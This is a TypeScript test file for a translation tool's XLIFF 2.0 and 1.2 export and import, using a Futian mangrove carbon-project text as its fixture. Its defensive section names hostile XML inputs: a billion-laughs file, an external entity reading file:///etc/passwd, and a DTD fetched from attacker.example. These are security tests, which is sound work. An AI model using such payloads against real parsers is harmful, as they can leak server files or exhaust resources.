import { DocumentsErrorCode } from './errors';
import { engineError } from './testing/engine-error';
import { planXliffImport, type CurrentSegmentState } from './import-plan';
import { segmentMarkdown, type SegmentedDocument } from './segmenter';
import { fixture } from './testing/fixtures';
import { prettyPrint, validateXliff } from './testing/xliff-schema';
import { parseXml } from './xml';
import { exportXliff20, xliffBlocksFor, type SegmentTranslation } from './xliff-export';
import { importXliff } from './xliff-import';

const segmentId = (ordinal: number): string => `s${ordinal + 1}`;

describe('XLIFF 2.0 export', () => {
  let en: SegmentedDocument;
  let zh: SegmentedDocument;
  let xml: string;

  const translations: Record<number, Omit<SegmentTranslation, 'id'>> = {
    0: { state: 'approved', targetText: '福田红树林碳汇项目' },
    2: { state: 'reviewed', targetText: '福田红树林国家级自然保护区位于广东省深圳湾北岸。' },
    3: {
      state: 'approved',
      targetText: '保护区面积368公顷，是我国唯一位于城市腹地的国家级自然保护区。',
      outdated: true,
      previousSourceText: 'It covers 368 hectares and is the only national nature reserve in the heart of a Chinese megacity.',
    },
    4: { state: 'translated', targetText: '区内红树林以{2}白骨壤{/2}和{1}秋茄{/1}为主，每年冬季有200多种鸟类在此栖息。' },
    9: { state: 'draft', targetText: '拍卖所得用于{1}生态修复{/1}' },
    10: { state: 'translated', targetText: '{1}计入期：20年' }, // unclosed pair in a draft
    11: { state: 'translated', targetText: '{1}修复{/1}红树林{/1}：3.8万平方米\u0007' }, // stray close and a control character
    12: { state: 'translated', targetText: '{1}方法学{2}{/1}：红树林保护碳汇方法学{/2}' }, // crossed pairs
    16: { state: 'translated', targetText: '如有疑问，请发送邮件至{1}。' },
  };

  beforeAll(async () => {
    en = await segmentMarkdown(fixture('project-description.en.md'), 'en');
    zh = await segmentMarkdown(fixture('project-description.zh-CN.md'), 'zh-CN');
    xml = exportXliff20({
      fileId: 'doc-futian',
      original: 'documents/futian/project-description.md',
      sourceLocale: 'en',
      targetLocale: 'zh-CN',
      blocks: xliffBlocksFor(en, (s) => ({
        id: segmentId(s.ordinal),
        version: translations[s.ordinal] ? 2 : 0,
        ...(translations[s.ordinal] ?? { state: 'untranslated' }),
      })),
    });
  });

  it('validates against the OASIS XLIFF 2.0 core schema, metadata and xml:space included', async () => {
    expect(xml).toContain('<mda:metadata>');
    expect(xml).toContain('xml:space="preserve"');
    expect(await validateXliff(xml)).toEqual({ valid: true, errors: [] });
  });

  it('is checked by a validator that does reject an invalid file', async () => {
    const result = await validateXliff(xml.replace('state="reviewed"', 'state="proofread"'));
    expect(result.valid).toBe(false);
    expect(result.errors.join('\n')).toContain('proofread');
    // The metadata sits where the schema allows foreign elements: moved after the notes, it is refused.
    const misplaced = await validateXliff(xml.replace(/(<mda:metadata>.*?<\/mda:metadata>)\s*(<notes>[\s\S]*?<\/notes>)/, '$2$1'));
    expect(misplaced.valid).toBe(false);
  });

  it('maps states, flags outdated translations and keeps their old source in a note', () => {
    const file = parseXml(xml);
    const segments = new Map<string, Record<string, string>>();
    const walk = (element: ReturnType<typeof parseXml>): void => {
      if (element.name === 'segment') segments.set(element.attributes.id, element.attributes);
      element.children.forEach((c) => typeof c !== 'string' && walk(c));
    };
    walk(file);
    expect(segments.get('s1')).toEqual({ id: 's1', state: 'final' });
    expect(segments.get('s2')).toEqual({ id: 's2', state: 'initial' });
    expect(segments.get('s3')).toEqual({ id: 's3', state: 'reviewed' });
    expect(segments.get('s4')).toEqual({ id: 's4', state: 'initial', subState: 'bcp:outdated' });
    expect(segments.get('s5')).toEqual({ id: 's5', state: 'translated' });
    expect(segments.get('s10')).toEqual({ id: 's10', state: 'initial' });
    expect(xml).toContain(
      '<note id="n2" category="outdated-source" appliesTo="source">The source changed since this translation. It was translated from: It covers 368 hectares',
    );
    expect(xml).toContain('<note id="n1" category="context">Heading level 1</note>');
    expect(xml).toMatch(/<segment id="s2" state="initial">\s*<source>Overview<\/source>\s*<\/segment>/);
  });

  it('writes placeholders as <pc>/<ph> showing their Markdown, and broken drafts as <sc>/<ec>', () => {
    expect(xml).toContain(
      '<target>区内红树林以<pc id="p1_2" type="fmt" subType="xlf:i" dispStart="*" dispEnd="*">白骨壤</pc>和<pc id="p1_1" type="fmt" subType="xlf:i" dispStart="*" dispEnd="*">秋茄</pc>为主',
    );
    expect(xml).toContain('<pc id="p1_2" type="link" dispStart="[" dispEnd="](https://bluecarbon.example.org/methodology/1.0)">');
    expect(xml).toContain('<target><sc id="p1_1" isolated="yes" type="fmt" subType="xlf:b" disp="**"/>计入期：20年</target>');
    expect(xml).toContain('<cp hex="0007"/>');
  });

  it('comes back through import unchanged: texts, placeholders, states, source hashes', () => {
    const imported = importXliff(xml);
    expect(imported).toMatchObject({ version: '2.0', sourceLocale: 'en', targetLocale: 'zh-CN' });
    expect(imported.segments).toHaveLength(en.segments.length);
    imported.segments.forEach((segment, ordinal) => {
      expect(segment.id).toBe(segmentId(ordinal));
      expect(segment.sourceText).toBe(en.segments[ordinal].text);
      expect(segment.sourceHash).toBe(en.segments[ordinal].hash);
    });
    const byId = new Map(imported.segments.map((s) => [s.id, s]));
    expect(byId.get('s1')).toMatchObject({ state: 'approved', targetText: '福田红树林碳汇项目' });
    expect(byId.get('s2')).toMatchObject({ state: 'untranslated', targetText: null });
    expect(byId.get('s4')).toMatchObject({ state: 'draft' }); // outdated goes back as a draft
    expect(byId.get('s5')).toMatchObject({ state: 'translated', targetText: translations[4].targetText });
    expect(byId.get('s10')).toMatchObject({ state: 'draft', targetText: '拍卖所得用于{1}生态修复{/1}' });
    expect(byId.get('s11')?.targetText).toBe('{1}计入期：20年');
    expect(byId.get('s12')?.targetText).toBe('{1}修复{/1}红树林{/1}：3.8万平方米\u0007');
    expect(byId.get('s13')?.targetText).toBe('{1}方法学{2}{/1}：红树林保护碳汇方法学{/2}');
    expect(byId.get('s17')?.targetText).toBe('如有疑问，请发送邮件至{1}。');
    expect(zh.segments[16].text).toBe(byId.get('s17')?.targetText);
  });

  it('writes a valid file for a document with nothing to translate', async () => {
    const empty = exportXliff20({ fileId: 'doc-empty', sourceLocale: 'en', targetLocale: 'pt-BR', blocks: [] });
    expect((await validateXliff(empty)).valid).toBe(true);
    expect(importXliff(empty).segments).toEqual([]);
  });

  it('refuses identifiers that are not XML name tokens', () => {
    const error = engineError(() =>
      exportXliff20({
        fileId: 'doc 1',
        sourceLocale: 'en',
        targetLocale: 'zh-CN',
        blocks: [{ id: 'b1', segments: [{ id: 's1', sourceText: 'x', state: 'untranslated' }] }],
      }),
    );
    expect(error.code).toBe(DocumentsErrorCode.InvalidIdentifier);
    const locale = engineError(() => exportXliff20({ fileId: 'doc', sourceLocale: 'en', targetLocale: 'zh_CN', blocks: [] }));
    expect(locale.params).toEqual({ value: 'zh_CN' });
  });
});

describe('XLIFF import of what CAT tools return', () => {
  it('reads XLIFF 2.0: targets, states, moved inline codes, comments, and the stale source', async () => {
    const en = await segmentMarkdown(fixture('project-description.en.md'), 'en');
    const file = fixture('project-description.en-zh-CN.returned.xlf');
    expect((await validateXliff(file)).valid).toBe(true);
    const imported = importXliff(file);
    expect(imported.segments.map(({ id, sourceText, targetText, state }) => ({ id, sourceText, targetText, state }))).toEqual([
      { id: 's1', sourceText: 'Futian Mangrove Carbon Sink Project', targetText: '福田红树林碳汇项目', state: 'approved' },
      { id: 's3', sourceText: en.segments[2].text, targetText: '福田红树林国家级自然保护区位于广东省深圳湾北岸。', state: 'reviewed' },
      {
        id: 's4',
        sourceText: 'It covers 368 hectares and is the only national nature reserve in the heart of a Chinese megacity.',
        targetText: '保护区面积368公顷，是我国唯一位于城市腹地的国家级自然保护区。',
        state: 'translated',
      },
      {
        id: 's5',
        sourceText: en.segments[4].text,
        targetText: '区内红树林以{1}秋茄{/1}和{2}白骨壤{/2}为主，每年冬季有200多种鸟类在此栖息。',
        state: 'translated',
      },
      { id: 's8', sourceText: en.segments[7].text, targetText: '2023年9月，深圳举办了全国首次红树林保护碳汇拍卖。', state: 'translated' },
      {
        id: 's9',
        sourceText: en.segments[8].text,
        targetText: '本次共拍出3756吨二氧化碳当量（tCO2e），成交价为每吨485元，成交总额为182.166万元。',
        state: 'draft',
      },
      { id: 's10', sourceText: en.segments[9].text, targetText: null, state: 'untranslated' },
      { id: 's13', sourceText: en.segments[12].text, targetText: '{1}方法学{/1}：{2}红树林保护碳汇方法学{/2}', state: 'translated' },
      { id: 's17', sourceText: en.segments[16].text, targetText: '如有疑问，请发送邮件至{1}。', state: 'translated' },
    ]);
    const current = new Map(en.segments.map((s) => [segmentId(s.ordinal), s.hash]));
    const stale = imported.segments.filter((s) => s.sourceHash !== current.get(s.id)).map((s) => s.id);
    expect(stale).toEqual(['s4']);
  });

  it('reads XLIFF 1.2: trans-units, <g>/<bpt>/<ept>/<x> codes, approved and review states, ignoring memory proposals', async () => {
    const zh = await segmentMarkdown(fixture('methodology-section.zh-CN.md'), 'zh-CN');
    const imported = importXliff(fixture('methodology-section.zh-CN-en.returned.xlf'));
    expect(imported).toMatchObject({ version: '1.2', sourceLocale: 'zh-CN', targetLocale: 'en' });
    expect(imported.segments.map(({ id, sourceText, targetText, state }) => ({ id, sourceText, targetText, state }))).toEqual([
      { id: 's2', sourceText: '4.1 范围与碳库', targetText: '4.1 Scope and carbon pools', state: 'approved' },
      {
        id: 's3',
        sourceText: zh.segments[2].text,
        targetText: 'This section describes how project proponents quantify the net carbon sink of a {1}mangrove conservation{/1} project.',
        state: 'translated',
      },
      { id: 's6', sourceText: zh.segments[5].text, targetText: null, state: 'untranslated' },
      {
        id: 's9',
        sourceText: zh.segments[8].text,
        targetText: 'See Fig. 3 for the plot layout and {1}Annex B{/1} for the field protocol.',
        state: 'translated',
      },
      { id: 's22', sourceText: zh.segments[21].text, targetText: 'Did the mangrove area shrink during the monitoring period?', state: 'approved' },
      { id: 's23', sourceText: zh.segments[22].text, targetText: 'If so, the loss must be deducted in full!', state: 'translated' },
      {
        id: 's24',
        sourceText: zh.segments[23].text,
        targetText: 'Results are reported in tonnes of CO2 equivalent (tCO2e) with two decimals, e.g. 38,745.44 tCO2e.{1}',
        state: 'translated',
      },
    ]);
    const hashes = new Map(zh.segments.map((s) => [segmentId(s.ordinal), s.hash]));
    expect(imported.segments.every((s) => s.sourceHash === hashes.get(s.id))).toBe(true);
  });
});

describe('hostile and broken XML is refused safely', () => {
  it('refuses a billion-laughs file at its DOCTYPE, quickly and without expanding anything', () => {
    const started = Date.now();
    const error = engineError(() => importXliff(fixture('billion-laughs.xlf')));
    expect(error.code).toBe(DocumentsErrorCode.XmlDoctypeForbidden);
    expect(error.params).toEqual({ line: 13, column: 2 });
    expect(Date.now() - started).toBeLessThan(1000);
  });

  it('refuses an external entity (file:///etc/passwd) without reading it', () => {
    const error = engineError(() => importXliff(fixture('external-entity.xlf')));
    expect(error.code).toBe(DocumentsErrorCode.XmlDoctypeForbidden);
    expect(error.message).not.toContain('root:');
  });

  it('refuses an external DTD reference too', () => {
    const xml = '<?xml version="1.0"?>\n<!DOCTYPE xliff SYSTEM "http://attacker.example/evil.dtd">\n<xliff version="2.0"/>';
    expect(engineError(() => importXliff(xml)).code).toBe(DocumentsErrorCode.XmlDoctypeForbidden);
  });

  it('does not expand an undeclared entity and reports where it is', () => {
    const xml = '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en">\n  <file id="f">&secret;</file>\n</xliff>';
    const error = engineError(() => importXliff(xml));
    expect(error.code).toBe(DocumentsErrorCode.XmlMalformed);
    expect(error.params).toMatchObject({ line: 2, column: 23 }); // the `;` ending &secret;
  });

  it('rejects malformed XML with line and column', () => {
    const xml = [
      '<?xml version="1.0" encoding="UTF-8"?>',
      '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en" trgLang="zh-CN">',
      '  <file id="f1">',
      '    <unit id="u1">',
      '      <segment id="s1"><source>Mangrove</target></segment>',
    ].join('\n');
    const error = engineError(() => importXliff(xml));
    expect(error.code).toBe(DocumentsErrorCode.XmlMalformed);
    // Detected at the `>` of </target>, the 48th character of line 5.
    expect(error.params).toMatchObject({ line: 5, column: 48 });
    expect(error.message).toMatch(/line 5, column 48: unexpected close tag/);
  });

  it('rejects invalid UTF-8 bytes', () => {
    const bytes = Buffer.concat([Buffer.from('<xliff version="2.0">'), Buffer.from([0xff, 0xfe, 0xfd]), Buffer.from('</xliff>')]);
    expect(engineError(() => importXliff(bytes)).code).toBe(DocumentsErrorCode.XmlMalformed);
  });

  it('bounds the file size and the nesting depth', () => {
    const big = `<xliff>${'x'.repeat(2048)}</xliff>`;
    const error = engineError(() => importXliff(big, { maxBytes: 1024 }));
    expect(error.code).toBe(DocumentsErrorCode.FileTooLarge);
    expect(error.params).toEqual({ size: 2063, max: 1024 });
    const deep = `${'<mrk>'.repeat(100)}${'</mrk>'.repeat(100)}`;
    expect(engineError(() => importXliff(deep)).code).toBe(DocumentsErrorCode.XmlTooDeep);
  });

  it('rejects what is not XLIFF 2.0 or 1.2, and duplicate segment ids', () => {
    expect(engineError(() => importXliff('<html/>')).code).toBe(DocumentsErrorCode.XliffInvalid);
    expect(engineError(() => importXliff('<xliff version="1.1"/>')).code).toBe(DocumentsErrorCode.XliffUnsupported);
    const twice = `<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en"><file id="f"><unit id="u"><segment id="s"><source>a</source></segment><segment id="s"><source>b</source></segment></unit></file></xliff>`;
    expect(engineError(() => importXliff(twice)).code).toBe(DocumentsErrorCode.XliffDuplicateSegment);
  });
});

describe('XLIFF through tools that rebuild or pretty-print the file', () => {
  const MARKDOWN = '# Monitoring\n\n- **Area:** [368 hectares](https://example.org/area)\n- **Unit**`tCO2e`\n\nMangroves in *Futian* store carbon.\n';
  const ZH = ['监测', '{1}面积：{/1}{2}368公顷{/2}', '{1}单位{/1}{2}', '{1}福田{/1}的红树林储存碳。'];
  let doc: SegmentedDocument;
  let xml: string;
  let current: CurrentSegmentState[];

  beforeAll(async () => {
    doc = await segmentMarkdown(MARKDOWN, 'en');
    expect(doc.segments.map((s) => s.text)).toEqual([
      'Monitoring',
      '{1}Area:{/1} {2}368 hectares{/2}',
      '{1}Unit{/1}{2}',
      'Mangroves in {1}Futian{/1} store carbon.',
    ]);
    xml = exportXliff20({
      fileId: 'doc-monitoring',
      sourceLocale: 'en',
      targetLocale: 'zh-CN',
      blocks: xliffBlocksFor(doc, (s) => ({ id: segmentId(s.ordinal), version: 0, state: 'translated', targetText: ZH[s.ordinal] })),
    });
    current = doc.segments.map((s) => ({ id: segmentId(s.ordinal), hash: s.hash, text: s.text, translation: null }));
  });

  /** What the import would do: per segment id, the decision and the text it would store. */
  const outcome = (file: string): Record<string, [string, string | null]> =>
    Object.fromEntries(
      planXliffImport(importXliff(file), current, { sourceLocale: 'en', targetLocale: 'zh-CN' }).decisions.map((d) => [
        d.id,
        [d.kind, 'targetText' in d ? d.targetText : null],
      ]),
    );
  const everyTranslationApplied = { s1: ['apply', ZH[0]], s2: ['apply', ZH[1]], s3: ['apply', ZH[2]], s4: ['apply', ZH[3]] };

  it('is left as it is by xmllint --format, which honours our xml:space="preserve"', async () => {
    expect(await prettyPrint(xml)).toBe(xml);
    expect(outcome(xml)).toEqual(everyTranslationApplied);
  });

  it('reads layout that xmllint --format adds once the declaration is gone as layout, not as a changed source or target text', async () => {
    const pretty = await prettyPrint(xml.replace(/ xml:space="preserve"/g, ''));
    expect(pretty).toMatch(/<source>\n\s+<pc id="p1_1"[^>]*>Area:<\/pc>\n\s+<pc/); // the space between the codes became an indented line break
    expect((await validateXliff(pretty)).valid).toBe(true);
    expect(outcome(pretty)).toEqual(everyTranslationApplied);
    expect(importXliff(pretty).segments.map((s) => s.sourceText)).toEqual(doc.segments.map((s) => s.text));
  });

  it('reads a file whose every inline code a tool put on its own line (no xml:space): English keeps its spaces, Chinese gets none', () => {
    const reindented = xml
      .replace(/ xml:space="preserve"/g, '')
      .replace(/(<(?:source|target)>)([\s\S]*?)(<\/(?:source|target)>)/g, (_all, open: string, inner: string, close: string) => {
        const lines = inner.replace(/\s*(<pc [^>]*>|<\/pc>|<ph [^>]*\/>)\s*/g, '\n              $1\n              ').trim();
        return `${open}\n              ${lines}\n            ${close}`;
      });
    expect(reindented).toContain('Mangroves in\n              <pc id="p1_1"');
    expect(importXliff(reindented).segments.map((s) => [s.sourceText, s.targetText])).toEqual(doc.segments.map((s, i) => [s.text, ZH[i]]));
    expect(outcome(reindented)).toEqual(everyTranslationApplied);
  });

  it('keeps xml:space="preserve" meaning preserve: spaces added around a code there are a changed source', () => {
    const spaced = xml.replace('dispEnd="*">Futian</pc>', 'dispEnd="*">\n      Futian\n    </pc>');
    expect(outcome(spaced).s4).toEqual(['staleSource', ZH[3]]);
  });

  it('matches each unit to its segment when a tool reorders the units and drops or renumbers the segment ids', () => {
    const units = xml.match(/<unit [\s\S]*?<\/unit>/g) ?? [];
    expect(units).toHaveLength(4);
    const rebuilt = (segmentIds: (unit: string) => string): string =>
      xml.replace(
        /<file ([^>]*)>[\s\S]*<\/file>/,
        (_all, attributes: string) => `<file ${attributes}>\n${[...units].reverse().map(segmentIds).join('\n')}\n</file>`,
      );
    const withoutIds = rebuilt((unit) => unit.replace(/<segment id="[^"]*"/, '<segment'));
    const renumbered = rebuilt((unit) => unit.replace(/<segment id="[^"]*"/, '<segment id="1"'));
    expect(importXliff(withoutIds).segments.map((s) => s.id)).toEqual(['s4', 's3', 's2', 's1']);
    expect(outcome(withoutIds)).toEqual(everyTranslationApplied);
    expect(outcome(renumbered)).toEqual(everyTranslationApplied);
  });

  it('refuses two units that land on the same segment, wherever they are in the file', () => {
    const units = xml.match(/<unit [\s\S]*?<\/unit>/g) ?? [];
    const twice = xml.replace(units[3], `${units[3]}\n${units[1].replace(/<unit id="s2"/, '<unit id="copy"')}`);
    const error = engineError(() => planXliffImport(importXliff(twice), current, { sourceLocale: 'en', targetLocale: 'zh-CN' }));
    expect(error.code).toBe(DocumentsErrorCode.XliffDuplicateSegment);
    expect(error.params).toEqual({ id: 's2' });
  });

  it('refuses a changed target whose stored translation moved on since the export, and takes the same text as unchanged', () => {
    const stored = current.map((segment, i) => ({ ...segment, translation: { text: i === 0 ? ZH[0] : '更新的译文', state: 'approved' as const, version: 2 } }));
    const plan = planXliffImport(importXliff(xml), stored, { sourceLocale: 'en', targetLocale: 'zh-CN' });
    expect(plan.decisions.map((d) => [d.id, d.kind])).toEqual([
      ['s1', 'unchanged'],
      ['s2', 'changedSince'],
      ['s3', 'changedSince'],
      ['s4', 'changedSince'],
    ]);
    expect(plan.decisions[1]).toEqual({ kind: 'changedSince', id: 's2', fileVersion: 0, currentVersion: 2, targetText: ZH[1] });
  });

  it('refuses a unit that lost its version in a file that carries versions, or that a tool split into segments', () => {
    // Only a version proves the file saw the stored translation; in a file of ours, a unit
    // without one may have been copied from an older export or rebuilt by a tool.
    const stored = current.map((segment) => ({ ...segment, translation: { text: '更新的译文', state: 'approved' as const, version: 2 } }));
    const units = xml.match(/<unit [\s\S]*?<\/unit>/g) ?? [];
    const stripped = xml.replace(units[1], units[1].replace(/<mda:metadata>[\s\S]*?<\/mda:metadata>/, ''));
    const split = stripped.replace(units[3], units[3].replace(/<\/segment>/, '</segment><segment id="extra"><source>More.</source></segment>'));
    expect(importXliff(split).segments.map((s) => [s.id, s.version])).toEqual([
      ['s1', 0],
      ['s2', null],
      ['s3', 0],
      ['s4', null],
      ['extra', null],
    ]);
    const plan = planXliffImport(importXliff(split), stored, { sourceLocale: 'en', targetLocale: 'zh-CN' });
    expect(plan.decisions.filter((d) => d.id === 's2' || d.id === 's4').map((d) => [d.id, d.kind])).toEqual([
      ['s2', 'changedSince'],
      ['s4', 'changedSince'],
    ]);
    // A file with no version at all (XLIFF 1.2, another tool's, an export older than versions) is checked by source only.
    const unversioned = xml.replace(/<mda:metadata>[\s\S]*?<\/mda:metadata>/g, '');
    expect(planXliffImport(importXliff(unversioned), stored, { sourceLocale: 'en', targetLocale: 'zh-CN' }).counts.apply).toBe(4);
  });
});
